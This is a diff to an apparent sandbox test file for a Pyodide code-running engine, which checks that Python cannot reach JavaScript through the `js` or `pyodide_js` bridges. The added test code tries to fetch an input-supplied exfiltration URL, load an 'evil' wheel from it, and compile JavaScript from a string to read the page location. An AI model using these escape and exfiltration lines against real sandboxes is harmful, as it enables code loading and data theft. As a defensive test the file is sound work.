@@ -1,10 +1,12 @@
-# A lesson that tries to escape from Python into the JavaScript around it through the `js`
-# module: to fetch, post messages, import scripts, or find the global object. The engine
-# refuses the import, and before the run it drops every reference the interpreter held to it
-# (Pyodide's import hook kept one in `jsfinder.jsproxies`): digging finds none. (What `js`
-# would be is an empty object anyway, not the worker's global scope.)
+# A lesson that tries to escape from Python into the JavaScript around it through Pyodide's
+# bridges: `js` (to fetch, post messages, import scripts, or find the global object) and
+# `pyodide_js`, the interpreter's JavaScript API (to load code from elsewhere, or compile
+# JavaScript from a string). The engine refuses both imports, and before the run it drops
+# every reference the interpreter held to them (Pyodide's import hook kept both in
+# `jsfinder.jsproxies`, and `pyodide.webloop` one to `_api.scheduleCallback`): digging finds
+# neither. (What `js` would be is an empty object anyway, not the worker's global scope.)
 # expect-outcome: raised
-# expect-message: ImportError: js is out of reach
+# expect-message: ImportError: js and pyodide_js are out of reach
 import gc
 import types
 
@@ -35,7 +37,18 @@ def reach(name):
     raise ImportError(f"{name} is out of reach")
 
 
-js = reach("js")
-for name in ["self", "globalThis", "postMessage", "importScripts", "XMLHttpRequest", "eval", "Function"]:
-    print("LEAKED js." + name, getattr(js, name, None))
-js.fetch(input().strip() + "/js-fetch")
+exfil = input().strip()
+for bridge in ("js", "pyodide_js"):
+    try:
+        module = reach(bridge)
+    except ImportError as error:
+        print("blocked:", error)
+        continue
+    if bridge == "js":
+        for name in ["self", "globalThis", "postMessage", "importScripts", "XMLHttpRequest", "eval", "Function"]:
+            print("LEAKED js." + name, getattr(module, name, None))
+        module.fetch(exfil + "/js-fetch")
+    else:
+        module.loadPackage(exfil + "/evil-0.1-py3-none-any.whl")
+        print("LEAKED", module.runPython.constructor("return self.location.href")())
+raise ImportError("js and pyodide_js are out of reach")
